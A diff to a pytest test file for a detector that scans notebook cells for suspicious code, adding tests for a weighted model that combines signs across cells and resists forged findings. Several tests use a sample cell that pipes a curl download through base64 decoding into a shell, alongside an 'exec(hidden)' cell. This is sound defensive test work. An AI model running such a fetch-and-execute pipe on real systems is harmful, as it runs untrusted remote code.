@@ -1,23 +1,30 @@
 """One small situation each: a condition, some cells, and the lines that should be evidence."""
 
+import json
+from pathlib import Path
 from typing import Any
 
 import pytest
+from pydantic import ValidationError
 
 from colonnade.detection.cells import Cell
 from colonnade.detection.features.feature import Feature, Kind
+from colonnade.detection.findings import from_json, to_json
 from colonnade.detection.match import Finding, match, match_group, see
+from colonnade.detection.model import shipped_model
 from colonnade.detection.rules import Axis, Example, Examples, Rule, RuleSet
 from colonnade.detection.scopes import Scope
 
 
-def rule(condition: Any, scope: Scope = Scope.NOTEBOOK, **more: Any) -> RuleSet:
+def rule(
+    condition: Any, scope: Scope = Scope.NOTEBOOK, axis: Axis = Axis.CONDUCT, **more: Any
+) -> RuleSet:
     some = (Example(title="An example", cells=("x",)),)
     made = Rule(
         id="tested",
         version=3,
         category="evasion",
-        axis=Axis.CONDUCT,
+        axis=axis,
         scope=scope,
         confidence=0.9,
         title="A rule under test",
@@ -32,6 +39,59 @@ def rule(condition: Any, scope: Scope = Scope.NOTEBOOK, **more: Any) -> RuleSet:
 
 def findings(rules: RuleSet, *sources: str) -> tuple[Finding, ...]:
     return match(rules, [see(rules, Cell(source, i)) for i, source in enumerate(sources)])
+
+
+@pytest.fixture
+def weighed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> RuleSet:
+    """A rule with a model: two signs make 0.88, and one of them 0.5."""
+    signs = [{"kind": "opaque", "value": value, "weight": 2} for value in ("exec", "decoded-pipe")]
+    content: dict[str, Any] = {
+        "name": "pair",
+        "bias": -2,
+        "threshold": 0.8,
+        "signs": signs,
+        "provenance": {},
+    }
+    (tmp_path / "pair.json").write_text(json.dumps(content))
+    monkeypatch.setattr("colonnade.detection.model.shipped", {"models": tmp_path}.__getitem__)
+    shipped_model.cache_clear()
+    return rule({"model": "pair"}, axis=Axis.CAPABILITY)
+
+
+def test_a_model_speaks_once_the_signs_of_several_cells_add_up(weighed: RuleSet):
+    exec_cell, pipe_cell = "exec(hidden)", "!curl https://example.org/x | base64 -d | sh"
+    assert not findings(weighed, exec_cell, "x = 1")
+    (found,) = findings(weighed, exec_cell, "x = 1", pipe_cell)
+    assert {one.cell for one in found.evidence} == {0, 2}
+    assert found.confidence == pytest.approx(0.8808, abs=1e-4)
+    assert found.learned
+    assert "estimated at 0.88" in found.result.statement
+    assert found.result.children[0].statement == "opaque: decoded-pipe (+2.00)"
+
+
+def test_the_estimate_survives_the_way_from_another_process(weighed: RuleSet):
+    found = findings(weighed, "exec(hidden)", "!curl https://example.org/x | base64 -d | sh")
+    (received,) = from_json(to_json(found), weighed)
+    assert (received.confidence, received.learned) == (found[0].confidence, True)
+    assert received.evidence == found[0].evidence
+
+
+def test_a_process_cannot_make_up_a_sign_or_count_one_twice(weighed: RuleSet):
+    found = findings(weighed, "exec(hidden)", "!curl https://example.org/x | base64 -d | sh")
+    (raw,) = to_json(found)
+    raw["tree"]["children"] = [{"statement": "opaque: exec (+2.00)", "holds": True}] * 9
+    raw["tree"]["children"].append({"statement": "opaque: exec (+90.00)", "holds": True})
+    (received,) = from_json([raw], weighed)
+    assert received.confidence == pytest.approx(0.5)
+
+
+@pytest.mark.usefixtures("weighed")
+@pytest.mark.parametrize(
+    ("scope", "axis"), [(Scope.NOTEBOOK, Axis.CONDUCT), (Scope.CELL, Axis.CAPABILITY)]
+)
+def test_a_model_speaks_of_a_notebooks_capability_alone(scope: Scope, axis: Axis):
+    with pytest.raises(ValidationError, match="a model speaks of"):
+        rule({"model": "pair"}, scope, axis)
 
 
 def lines(found: tuple[Finding, ...]) -> list[tuple[int, int]]:
